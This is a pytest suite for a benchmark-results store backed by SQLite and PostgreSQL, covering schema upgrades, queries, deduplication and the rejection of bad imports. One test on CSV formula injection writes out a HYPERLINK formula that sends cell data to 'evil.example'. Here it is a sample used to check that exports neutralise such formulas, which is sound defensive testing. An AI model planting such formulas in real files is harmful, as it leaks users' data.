"""dlenv.data.store against real databases: a SQLite file and a PostgreSQL server.

The PostgreSQL cases use the server named by DLENV_TEST_POSTGRES_URL (`.ci/run` starts
one); each test gets a schema of its own, dropped afterwards. Without the variable they
are skipped locally and fail in CI (CI=true), so CI never passes without them.
"""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import re
import statistics
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa

from dlenv.data import database, results, schema, store, store_schema
from dlenv.data.results import ResultsError
from dlenv.data.store import SCHEMA_VERSION, SaveReport, Store, StoreError

POSTGRES_URL = os.environ.get("DLENV_TEST_POSTGRES_URL", "").strip()


# --- documents -------------------------------------------------------------------


def make_result(**changes) -> dict:
    """A valid float32 matmul result; statistics consistent with its samples."""
    samples = [0.0101, 0.0100, 0.0102, 0.0099, 0.0103]
    q1, median, q3 = statistics.quantiles(samples, n=4)
    n = changes.get("params", {}).get("n", 1024) if isinstance(changes.get("params"), dict) else 1024
    flops, moved = 2.0 * n**3, 3.0 * n * n * 4
    result = {
        "workload": "matmul", "params": {"n": n}, "label": f"matmul {n} float32", "provenance": "measured",
        "backend": "jax", "device": "cpu:0", "device_name": "AMD EPYC", "dtype": "float32",
        "timing": "synced", "median_s": median, "iqr_s": q3 - q1, "q1_s": q1, "q3_s": q3,
        "min_s": min(samples), "mean_s": statistics.fmean(samples), "n_samples": len(samples),
        "calls_per_sample": 2, "samples_s": samples, "first_call_s": 0.2, "noisy": False,
        "flops": flops, "bytes": moved, "gflops": flops / median / 1e9, "gbps": moved / median / 1e9,
        "peak_gflops": 156.0, "peak_source": "estimate", "measured_at": "2026-11-27T01:00:00Z",
    }
    result.update(changes)
    return result


def make_environment(**changes) -> dict:
    environment = {"machine": "vm-1", "runtime": "local", "os": "Linux-6.1", "python": "3.11.7",
                   "frameworks": {"jax": "0.10.2"}, "devices": [{"id": "cpu:0", "name": "AMD EPYC"}],
                   "collected_at": "2026-11-27T00:59:00Z"}
    environment.update(changes)
    return environment


def make_doc(result_list: list[dict] | None = None, **environment) -> dict:
    return results.make_document([make_result()] if result_list is None else result_list,
                                 make_environment(**environment))


def sized(n: int, **changes) -> dict:
    """A result for matmul size n whose time grows with n (so results differ by content); its
    rates are its FLOPs and bytes over that time, as the schema checks."""
    median = changes.pop("median_s", 1e-3 * n)
    flops, moved = 2.0 * n**3, 3.0 * n * n * 4
    rates = {"gflops": flops / median / 1e9, "gbps": moved / median / 1e9}
    return make_result(**{"params": {"n": n}, "label": f"matmul {n} float32", "median_s": median, **rates, **changes})


# --- databases -------------------------------------------------------------------


def _postgres_admin() -> sa.Engine:
    return sa.create_engine(database.parse_url(POSTGRES_URL))


@contextmanager
def postgres_schema() -> Iterator[str]:
    """A URL whose search_path is a new, empty schema, dropped afterwards."""
    if not POSTGRES_URL:
        reason = "DLENV_TEST_POSTGRES_URL is not set (.ci/run starts a PostgreSQL server and sets it)"
        if os.environ.get("CI") == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    schema = f"test_{uuid.uuid4().hex[:12]}"
    admin = _postgres_admin()
    try:
        with admin.begin() as conn:
            conn.execute(sa.text(f"CREATE SCHEMA {schema}"))
        separator = "&" if "?" in POSTGRES_URL else "?"
        yield f"{POSTGRES_URL}{separator}options=-csearch_path%3D{schema}"
        with admin.begin() as conn:
            conn.execute(sa.text(f"DROP SCHEMA {schema} CASCADE"))
    finally:
        admin.dispose()


@contextmanager
def empty_database(kind: str, folder: Path) -> Iterator[str]:
    if kind == "sqlite":
        yield f"sqlite:///{folder / f'dlenv-{uuid.uuid4().hex[:8]}.sqlite'}"
    else:
        with postgres_schema() as url:
            yield url


@pytest.fixture(params=["sqlite", "postgres"])
def db_url(request, tmp_path) -> str:
    """A URL to an empty database: a new SQLite file, or a new PostgreSQL schema."""
    with empty_database(request.param, tmp_path) as url:
        yield url


@pytest.fixture
def db(db_url) -> Store:
    with Store(db_url) as opened:
        yield opened


@contextmanager
def connected(url: str) -> Iterator[sa.Connection]:
    """A connection of its own to the store's database, made as the store makes them."""
    engine = database.create_engine(url)
    try:
        with engine.connect() as conn:
            yield conn
    finally:
        engine.dispose()


def table_counts(url: str) -> tuple[int, int]:
    with connected(url) as conn:
        return tuple(conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
                     for table in (store_schema.ENVIRONMENTS, store_schema.RESULTS))


@contextmanager
def statements() -> Iterator[list[tuple[str, object]]]:
    """The SQL statements (with their parameters) that any engine sends while inside."""
    sent: list[tuple[str, object]] = []

    def record(_conn, _cursor, statement, parameters, _context, _executemany):
        sent.append((statement, parameters))

    sa.event.listen(sa.Engine, "before_cursor_execute", record)
    try:
        yield sent
    finally:
        sa.event.remove(sa.Engine, "before_cursor_execute", record)


def schema_shape(url: str) -> dict:
    """Columns (name, nullable) and index names of each table: to compare two databases."""
    engine = sa.create_engine(database.parse_url(url))
    try:
        inspector = sa.inspect(engine)
        return {table: ({(c["name"], c["nullable"]) for c in inspector.get_columns(table)},
                        {i["name"] for i in inspector.get_indexes(table)})
                for table in inspector.get_table_names()}
    finally:
        engine.dispose()


# --- configuration ---------------------------------------------------------------


def test_default_url_is_a_sqlite_file_in_the_data_folder(monkeypatch, tmp_path):
    monkeypatch.delenv("DLENV_DATABASE_URL", raising=False)
    monkeypatch.setenv("DLENV_DATA_DIR", str(tmp_path / "new" / "data"))
    assert store.data_dir() == tmp_path / "new" / "data" and store.data_dir().is_dir()
    assert store.database_url() == f"sqlite:///{tmp_path / 'new' / 'data' / 'dlenv.sqlite'}"
    with Store() as db:
        db.save_document(make_doc())
    # A restart (a new Store on the same default) finds the results.
    with Store() as db:
        assert db.count() == 1


def test_database_url_variable_wins_and_postgres_urls_use_psycopg(monkeypatch, tmp_path):
    monkeypatch.setenv("DLENV_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    assert store.database_url().endswith("other.sqlite")
    parsed = database.parse_url("postgresql://u:secret@db.example.org:5432/class")
    assert parsed.drivername == "postgresql+psycopg"
    assert database.parse_url("postgres://u:p@h/d").drivername == "postgresql+psycopg"
    assert "secret" not in database.display_url(parsed) and "***" in database.display_url(parsed)


def test_unwritable_sqlite_path_is_a_store_error_saying_what_to_check():
    with pytest.raises(StoreError, match="unable to open database file; check that the folder exists"):
        Store("sqlite:////dev/null/not-a-folder/dlenv.sqlite")


def test_a_busy_timeout_that_is_not_a_number_of_seconds_is_a_store_error_naming_the_setting(tmp_path, monkeypatch):
    monkeypatch.setenv("DLENV_DB_BUSY_TIMEOUT_S", "soon")
    with pytest.raises(StoreError, match="DLENV_DB_BUSY_TIMEOUT_S must be a whole number of seconds >= 1, got 'soon'"):
        Store(f"sqlite:///{tmp_path / 'dlenv.sqlite'}")


def test_unreachable_server_error_hides_the_password():
    with pytest.raises(StoreError) as caught:
        Store("postgresql://dlenv:s3cret-pw@127.0.0.1:1/dlenv?connect_timeout=5")
    message = str(caught.value)
    assert "s3cret-pw" not in message and "dlenv:***@127.0.0.1:1" in message
    assert "check the host, port, user, password" in message


def test_malformed_or_unsupported_urls_are_refused_without_echoing_them():
    with pytest.raises(StoreError) as caught:
        Store("not a url with pass:word")
    assert "pass:word" not in str(caught.value)
    with pytest.raises(StoreError, match="SQLite or PostgreSQL"):
        Store("mysql://u:p@localhost/db")


def test_a_file_that_is_not_a_database_is_a_store_error(tmp_path):
    path = tmp_path / "notes.sqlite"
    path.write_text("these are my notes, not a database\n" * 100)
    with pytest.raises(StoreError, match="not a database"):
        Store(f"sqlite:///{path}")


# --- schema ----------------------------------------------------------------------


def test_fresh_database_gets_the_current_schema_and_indexes(db, db_url):
    with connected(db_url) as conn:
        assert conn.execute(sa.text("SELECT version FROM dlenv_schema")).scalars().all() == [SCHEMA_VERSION]
    shape = schema_shape(db_url)
    assert {"ix_results_query", "ix_results_measured_at", "ix_results_machine", "ix_results_reference",
            "ix_results_workload_time"} <= shape["results"][1]
    assert "ix_environments_machine" in shape["environments"][1]
    # Opening it again changes nothing.
    Store(db_url).close()
    assert schema_shape(db_url) == shape


def test_sqlite_runs_in_wal_mode_with_a_busy_timeout_and_foreign_keys(tmp_path):
    url = f"sqlite:///{tmp_path / 'x.sqlite'}"
    Store(url).close()
    with connected(url) as conn:
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() == 30_000
        assert conn.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1


def _fill_v1(url: str, doc: dict, folder: Path) -> None:
    """A version-1 database holding ``doc``: stored by the current store, then what versions 2 to 5
    added taken away; checked against the frozen version-1 tables (``store_schema.define(..., 1)``)."""
    with Store(url) as db:
        db.save_document(doc)
    engine = sa.create_engine(database.parse_url(url))
    with engine.begin() as conn:
        for index in ("ix_results_reference", "ix_results_workload_time", "ix_results_provenance",
                      "ix_results_added_at", "ix_results_added_by"):
            conn.execute(sa.text(f"DROP INDEX {index}"))
        for column in ("source", "reference", "other_cpu_share", "steal_share", "busy", "provenance",
                       "matmul_precision", "added_by", "added_at", "hidden_by", "hidden_at"):
            conn.execute(sa.text(f"ALTER TABLE results DROP COLUMN {column}"))
        conn.execute(sa.text("DROP TABLE dlenv_settings"))
        conn.execute(sa.text("UPDATE dlenv_schema SET version = 1"))
    engine.dispose()
    with empty_database("sqlite" if url.startswith("sqlite") else "postgres", folder) as frozen_url:
        engine = sa.create_engine(database.parse_url(frozen_url))
        metadata = sa.MetaData()
        store_schema.define(metadata, 1)
        with engine.begin() as conn:
            metadata.create_all(conn)
        engine.dispose()
        assert schema_shape(url) == schema_shape(frozen_url)


def test_upgrade_from_version_1_keeps_rows_and_matches_a_fresh_schema(db_url, tmp_path):
    doc = make_doc([sized(64), sized(128)])
    _fill_v1(db_url, doc, tmp_path)
    with Store(db_url) as db:
        assert db.count() == 2
        table = db.results()
        assert list(table["source"]) == ["unknown", "unknown"] and not table["reference"].any()
        # Rows from version 1 keep their hashes: importing the same file again adds nothing.
        assert db.save_document(doc).added == 0
        assert db.save_document(make_doc([sized(256)]), reference=True).added == 1
        assert db.results(reference=True)["param_n"].tolist() == [256]
    with connected(db_url) as conn:
        assert conn.execute(sa.text("SELECT version FROM dlenv_schema")).scalar_one() == SCHEMA_VERSION
    # Same columns (nullability included) and indexes as a database created at the current version.
    with empty_database("sqlite" if db_url.startswith("sqlite") else "postgres", tmp_path) as fresh_url:
        Store(fresh_url).close()
        assert schema_shape(db_url) == schema_shape(fresh_url)


def test_upgrade_from_version_3_marks_stored_reference_sets_as_reference(db_url):
    with Store(db_url) as db:
        db.save_document(make_doc([sized(64)]))
        db.save_document(make_doc([sized(128)]), reference=True)
    engine = sa.create_engine(database.parse_url(db_url))
    with engine.begin() as conn:  # back to version 3: without what versions 4 and 5 added
        _drop_version_5(conn)
        conn.execute(sa.text("DROP INDEX ix_results_provenance"))
        for column in ("provenance", "matmul_precision"):
            conn.execute(sa.text(f"ALTER TABLE results DROP COLUMN {column}"))
        conn.execute(sa.text("UPDATE dlenv_schema SET version = 3"))
    engine.dispose()
    with Store(db_url) as db:
        table = db.results()
        assert dict(zip(table["param_n"], table["provenance"])) == {64: "measured", 128: "reference"}
        assert [result["provenance"] for result in db.document()["results"]] == ["measured", "reference"]


def _drop_version_5(conn: sa.Connection) -> None:
    for index in ("ix_results_added_at", "ix_results_added_by"):
        conn.execute(sa.text(f"DROP INDEX {index}"))
    for column in ("added_by", "added_at", "hidden_by", "hidden_at"):
        conn.execute(sa.text(f"ALTER TABLE results DROP COLUMN {column}"))
    conn.execute(sa.text("DROP TABLE dlenv_settings"))


def test_upgrade_from_version_4_keeps_rows_visible_with_nobody_recorded_and_matches_a_fresh_schema(db_url, tmp_path):
    doc = make_doc([sized(64), sized(128)])
    with Store(db_url) as db:
        db.save_document(doc, source="upload", added_by="removed below")
    engine = sa.create_engine(database.parse_url(db_url))
    with engine.begin() as conn:  # back to version 4
        _drop_version_5(conn)
        conn.execute(sa.text("UPDATE dlenv_schema SET version = 4"))
    engine.dispose()
    with Store(db_url) as db:
        table = db.results()
        assert sorted(table["param_n"]) == [64, 128]  # nothing hidden by the upgrade
        assert table["added_by"].isna().all() and table["added_at"].isna().all()
        assert not db.class_code_required()
        assert db.save_document(doc).added == 0  # same hashes as before the upgrade
        assert db.hide(added_by=None, ids=[int(table["id"].iloc[0])], by="teacher") == 1
        assert db.count() == 1 and db.count(hidden=None) == 2
    with connected(db_url) as conn:
        assert conn.execute(sa.text("SELECT version FROM dlenv_schema")).scalar_one() == SCHEMA_VERSION == 5
    with empty_database("sqlite" if db_url.startswith("sqlite") else "postgres", tmp_path) as fresh_url:
        Store(fresh_url).close()
        assert schema_shape(db_url) == schema_shape(fresh_url)


def test_a_newer_schema_is_refused(db_url):
    Store(db_url).close()
    engine = sa.create_engine(database.parse_url(db_url))
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE dlenv_schema SET version = 99"))
    engine.dispose()
    with pytest.raises(StoreError, match=f"schema version 99, newer than this dlenv's {SCHEMA_VERSION}: upgrade dlenv"):
        Store(db_url)


# --- saving and querying -----------------------------------------------------------


def test_save_then_query_round_trip(db):
    report = db.save_document(make_doc([sized(256), sized(512, device="gpu:0", device_name="H100")]))
    assert report == SaveReport(added=2, duplicates=0, environment_ids=report.environment_ids, machines=("vm-1",))
    assert len(report.environment_ids) == 1
    table = db.results()
    assert list(table.columns[:11]) == ["id", "measured_at", "machine", "runtime", "workload", "label",
                                        "backend", "device", "device_name", "dtype", "timing"]
    assert {"median_s", "iqr_s", "gflops", "gbps", "samples_per_s", "pct_of_peak", "peak_source",
            "first_call_s", "n_samples", "reference", "source", "param_n"} <= set(table.columns)
    row = table[table["device"] == "gpu:0"].iloc[0]
    assert row["machine"] == "vm-1" and row["runtime"] == "local" and row["device_name"] == "H100"
    assert row["median_s"] == pytest.approx(0.512) and row["param_n"] == 512 and row["source"] == "local"
    assert row["measured_at"] == datetime(2026, 11, 27, 1, tzinfo=timezone.utc)
    assert str(table["measured_at"].dtype) == "datetime64[us, UTC]"
    assert str(table["param_n"].dtype) == "Int64" and str(table["n_samples"].dtype) == "Int64"


def test_filters(db):
    db.save_document(make_doc([
        sized(64, measured_at="2026-11-01T10:00:00Z"),
        sized(128, measured_at="2026-11-02T10:00:00+02:00", backend="torch"),
        sized(256, measured_at="2026-11-03T10:00:00Z", device="gpu:0", dtype="bfloat16"),
        make_result(workload="elementwise", params={"size": 1024, "op": "add"}, label="add",
                    measured_at="2026-11-04T10:00:00Z", timing="naive"),
        make_result(workload="mlp", params={"depth": 2, "mode": "train", "bias": True, "lr": 0.5},
                    label="mlp", measured_at="2026-11-05T10:00:00Z"),
    ]))
    db.save_document(make_doc([sized(64, measured_at="2026-11-06T10:00:00Z")], machine="laptop"))
    assert db.count() == 6
    ids = db.results()["param_n"].tolist()
    assert ids[:1] == [64] and db.results()["measured_at"].is_monotonic_decreasing
    assert db.results(workload="matmul")["param_n"].tolist() == [64, 256, 128, 64]
    assert db.results(workload=["elementwise", "mlp"])["workload"].tolist() == ["mlp", "elementwise"]
    assert db.results(backend="torch")["param_n"].tolist() == [128]
    assert db.results(device="gpu:0", dtype="bfloat16")["param_n"].tolist() == [256]
    assert db.results(timing="naive")["workload"].tolist() == ["elementwise"]
    assert db.results(machine="laptop")["machine"].tolist() == ["laptop"]
    assert len(db.results(limit=2)) == 2
    # Dates: inclusive bounds; a date means the whole day; +02:00 is converted to UTC.
    assert db.results(since="2026-11-05")["workload"].tolist() == ["matmul", "mlp"]
    assert db.results(until=date(2026, 11, 2))["param_n"].tolist() == [128, 64]
    assert db.results(since=datetime(2026, 11, 2, 8, tzinfo=timezone.utc),
                      until="2026-11-02T08:00:00Z")["param_n"].tolist() == [128]
    # Params: numbers by value, text, booleans (true is not 1), several at once.
    assert db.results(params={"n": 128})["param_n"].tolist() == [128]
    assert db.results(params={"n": 128.0})["param_n"].tolist() == [128]
    assert db.results(params={"op": "add", "size": 1024})["workload"].tolist() == ["elementwise"]
    assert db.results(params={"bias": True, "mode": "train"})["workload"].tolist() == ["mlp"]
    assert db.results(params={"bias": 1}).empty and db.results(params={"bias": False}).empty
    assert db.results(params={"lr": 0.5})["workload"].tolist() == ["mlp"]
    assert db.results(params={"n": "128"}).empty
    assert db.results(workload="cnn").empty and list(db.results(workload="cnn").columns)[:2] == ["id", "measured_at"]
    with pytest.raises(TypeError, match="colour"):
        db.results(colour="red")


def test_same_document_twice_is_stored_once(db, db_url):
    doc = make_doc([sized(64), sized(128)])
    first = db.save_document(doc)
    again = db.save_document(doc)
    assert (first.added, first.duplicates) == (2, 0)
    assert (again.added, again.duplicates) == (0, 2) and again.environment_ids == first.environment_ids
    assert table_counts(db_url) == (1, 2)


def test_same_result_in_two_documents_with_one_environment_is_stored_once(db, db_url):
    shared = sized(64)
    db.save_document(make_doc([shared, sized(128)]))
    later = make_doc([sized(256), shared, shared])  # also repeated inside one document
    later["created"] = "2026-12-01T00:00:00Z"
    report = db.save_document(later)
    assert (report.added, report.duplicates) == (1, 2)
    assert table_counts(db_url) == (1, 3)
    # The same result measured in another environment is another result.
    assert db.save_document(make_doc([shared], machine="other")).added == 1


def test_a_failure_inside_the_transaction_leaves_no_partial_rows(db, db_url):
    db.save_document(make_doc([sized(1)]))
    before = table_counts(db_url)
    big = make_doc([sized(n) for n in range(2, 1300)], machine="new-machine")  # new environment too
    for failure in (RuntimeError("simulated crash"), KeyboardInterrupt()):  # a bug, or Ctrl-C
        batches: list[str] = []

        def fail_third_batch(_conn, _cursor, statement, *_args, batches=batches, failure=failure):
            if statement.startswith("INSERT INTO results"):
                batches.append(statement)
                if len(batches) == 3:  # two INSERT batches already sent in this transaction
                    raise failure

        sa.event.listen(sa.Engine, "before_cursor_execute", fail_third_batch)
        try:
            with pytest.raises(type(failure)):
                db.save_document(big)
        finally:
            sa.event.remove(sa.Engine, "before_cursor_execute", fail_third_batch)
        assert len(batches) == 3 and table_counts(db_url) == before
    # The store still works, and the whole document goes in afterwards.
    assert db.save_document(big).added == 1298


def test_text_a_database_cannot_hold_is_refused_before_writing(db, db_url):
    with pytest.raises(ResultsError, match=r"results\[1\]\.device_name: contains a NUL character"):
        db.save_document(make_doc([sized(1), sized(2, device_name="H100\x00")]))
    with pytest.raises(ResultsError, match=r"results\[0\]\.params\.mode: contains a NUL"):
        db.save_document(make_doc([make_result(params={"mode": "a\x00"})]))
    assert table_counts(db_url) == (0, 0)
    # Long non-ASCII names stay under PostgreSQL's index entry limit (stored whole in the JSON).
    long_name = "€" * schema.MAX_TEXT
    db.save_document(make_doc([sized(1, machine=long_name)], hostname="é" * 5000))
    assert db.results()["machine"][0] == long_name[:store.MAX_INDEXED_TEXT]
    assert db.document()["results"][0]["machine"] == long_name


def test_reference_flag(db):
    db.save_document(make_doc([sized(64)]))
    report = db.save_document(make_doc([sized(64), sized(128)]), source="reference-set", reference=True)
    assert (report.added, report.duplicates) == (1, 1)
    table = db.results(reference=True)
    # The copy stored before is now flagged too; its source stays where it came from.
    assert sorted(table["param_n"]) == [64, 128] and sorted(table["source"]) == ["local", "reference-set"]
    assert db.results(reference=False).empty
    with pytest.raises(ValueError, match="source must be"):
        db.save_document(make_doc(), source="")


def test_document_export_is_valid_and_reimports_as_duplicates(db):
    doc = make_doc([sized(64), sized(128), sized(256)])
    db.save_document(doc)
    exported = db.document()
    assert results.validate_document(exported) == exported
    assert exported["environments"] == doc["environments"] and exported["results"] == doc["results"]
    assert db.import_bytes(results.dumps(exported).encode(), "export.json").added == 0
    ids = db.results(params={"n": 128})["id"].tolist()
    assert [r["params"]["n"] for r in db.document(ids)["results"]] == [128]
    with pytest.raises(KeyError, match="no stored results with id 999999"):
        db.document([999999])
    # Results of several environments: each keeps its own.
    db.save_document(make_doc([sized(512)], machine="other", devices=[{"id": "gpu:0", "name": "H100"}]))
    both = db.document()
    assert len(both["results"]) == 4 and len(both["environments"]) == 2
    assert [results.environment_of(both, r)["machine"] for r in both["results"]] == ["vm-1"] * 3 + ["other"]
    assert db.document([])["results"] == []


# --- importing files ---------------------------------------------------------------


def test_import_json_and_csv_by_suffix_and_by_content(db):
    doc = make_doc([sized(64), sized(128)])
    text = results.dumps(doc)
    assert db.import_bytes(text.encode(), "run.JSON").added == 2
    assert db.import_bytes(("\n  " + text).encode(), "upload").duplicates == 2  # sniffed as JSON
    csv_text = results.to_csv(doc)
    report = db.import_bytes(csv_text.encode(), "run.csv")
    assert (report.added, report.duplicates) == (2, 0)  # a CSV has an environment of its own
    assert db.import_bytes(b"\xef\xbb\xbf" + csv_text.encode(), "").added == 0  # BOM from Excel; sniffed
    table = db.results()
    assert len(table) == 4 and set(table["source"]) == {"import"}
    # The machine of a CSV row comes from its own column.
    assert set(table["machine"]) == {"vm-1"}


BAD_FILES = {
    "truncated JSON": (lambda: results.dumps(make_doc())[:-40].encode(), "a.json", "not valid JSON"),
    "wrong types": (lambda: json.dumps(make_doc([make_result(median_s="fast", n_samples=2.5)])).encode(),
                    "a.json", "results[0].median_s: must be a finite number > 0, got 'fast'"),
    "NaN": (lambda: json.dumps(make_doc([make_result(gflops=float("nan"))])).encode(), "a.json",
            "results[0].gflops: must be a finite number >= 0, got NaN"),
    "huge": (lambda: b"{" + b" " * store.MAX_IMPORT_BYTES + b"}", "a.json", "file is too large"),
    "unknown schema": (lambda: json.dumps({**make_doc(), "schema": "dlenv.results/7"}).encode(), "a.json",
                       "schema: dlenv.results/7 was made by a newer dlenv"),
    "not a results file": (lambda: b'{"name": "my package", "version": "1.0"}', "package.json",
                           "not a dlenv results document"),
    "non-UTF-8 JSON": (lambda: results.dumps(make_doc()).replace("AMD EPYC", "AMD \xc9PYC").encode("latin-1"),
                       "a.json", "not UTF-8: byte 0xc9"),
    "non-UTF-8 CSV": (lambda: results.to_csv(make_doc()).replace("AMD EPYC", "AMD \xc9PYC").encode("latin-1"),
                      "a.csv", "CSV: not UTF-8: byte 0xc9"),
    "truncated CSV": (lambda: results.to_csv(make_doc([sized(1), sized(2)])).encode()[:-100], "a.csv",
                      # how many cells line 3 keeps depends on how long the numbers print
                      "cells but the header has {header}; the file looks truncated"),
    "CSV wrong types": (lambda: results.to_csv(make_doc()).replace(",synced,", ",eventually,").encode(),
                        "a.csv", "results[0].timing: must be one of synced, naive"),
    "CSV of something else": (lambda: b"name,price\r\napple,1\r\n", "a.csv", "CSV: missing required columns"),
    "formula instead of a number": (
        lambda: results.to_csv(make_doc()).replace(",5,2,", ",=1+1,2,", 1).encode(), "a.csv",
        "results[0].n_samples: must be an integer >= 1, got '=1+1'"),
    "empty": (lambda: b" \n", "a.json", "the file is empty"),
    "lone surrogate": (lambda: results.dumps(make_doc()).replace("AMD EPYC", "\\ud800").encode(), "a.json",
                       "lone surrogate"),
}


@pytest.mark.parametrize("kind", BAD_FILES)
def test_bad_files_are_refused_with_a_message_and_store_nothing(db, db_url, kind):
    data, filename, message = BAD_FILES[kind]
    db.save_document(make_doc([sized(1)]))
    with pytest.raises(ResultsError) as caught:
        db.import_bytes(data(), filename)
    header = len(data().decode("utf-8", "replace").split("\r\n", 1)[0].split(","))  # the columns the file names
    assert message.format(header=header) in str(caught.value)
    assert table_counts(db_url) == (1, 1)


# What a spreadsheet reads as a number, not as a formula.
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")


def test_formula_text_in_a_csv_is_stored_as_text_and_exported_neutralised(db):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = list(csv.reader(io.StringIO(results.to_csv(make_doc([sized(64)])))))
    header = rows[0]
    # As a spreadsheet user might type them: no leading quote.
    rows[1][header.index("device_name")] = formula
    rows[1][header.index("machine")] = "@SUM(1+1)"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    db.import_bytes(out.getvalue().encode(), "evil.csv")
    stored = db.results()
    assert stored["device_name"][0] == formula and stored["machine"][0] == "@SUM(1+1)"
    for exported in (results.to_csv(db.document()), results.to_csv(stored)):
        row = next(csv.DictReader(io.StringIO(exported)))
        assert row["device_name"] == "'" + formula and row["machine"] == "'@SUM(1+1)"
        risky = [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@")) and not PLAIN_NUMBER.fullmatch(cell)]
        assert risky == []
    # Read back, the text is the original again.
    assert results.from_csv(results.to_csv(db.document()))["results"][0]["device_name"] == formula


# --- concurrency -------------------------------------------------------------------


def _writer(url: str, worker: int, start, failures) -> None:
    """One process saving 20 documents: 10 results of its own each, plus one shared by all."""
    try:
        with Store(url) as db:
            start.wait(60)
            for round_ in range(20):
                own = [sized(10_000 * worker + 100 * round_ + i) for i in range(10)]
                db.save_document(make_doc([sized(7)] + own))
    except BaseException as error:  # reported to the parent, which fails the test
        failures.put(f"writer {worker}: {type(error).__name__}: {error}")
        raise


def test_two_processes_writing_at_once_lose_nothing(db_url):
    Store(db_url).close()
    context = multiprocessing.get_context("spawn")
    start, failures = context.Barrier(2), context.Queue()
    workers = [context.Process(target=_writer, args=(db_url, worker, start, failures)) for worker in (1, 2)]
    for process in workers:
        process.start()
    for process in workers:
        process.join(120)
    errors = [failures.get() for _ in range(failures.qsize())] if not failures.empty() else []
    assert errors == [] and [p.exitcode for p in workers] == [0, 0]
    with Store(db_url) as db:
        assert table_counts(db_url) == (1, 2 * 20 * 10 + 1)
        assert len(set(db.results()["param_n"])) == 401


# --- query plans -------------------------------------------------------------------


def test_sqlite_main_queries_use_indexes(tmp_path):
    url = f"sqlite:///{tmp_path / 'x.sqlite'}"
    with Store(url) as db:
        db.save_document(make_doc([sized(n) for n in range(1, 50)]))
        with statements() as sent:  # the Results page's queries, as the store sends them
            for filters in ({"workload": "matmul", "backend": "jax"}, {"limit": 100}, {"machine": "vm-1"},
                            {"reference": True}):
                db.results(**filters)
    queries = [(sql, params) for sql, params in sent if sql.lstrip().startswith("SELECT")]
    assert len(queries) == 4
    with connected(url) as conn:
        for sql, params in queries:
            plan = " ".join(row[-1] for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + sql, params))
            assert "USING INDEX ix_results_" in plan, plan


def test_a_result_measured_on_a_busy_machine_keeps_its_figures_in_the_stored_table(db):
    busy = sized(256, other_cpu_share=0.49, steal_share=0.0, busy=True)
    db.save_document(make_doc([busy, sized(512)]))
    table = db.results().sort_values("param_n")
    assert table["busy"].tolist()[0] is True and table["other_cpu_share"].tolist()[0] == 0.49
    assert table["busy"].isna().tolist() == [False, True]  # a result without the figures says nothing
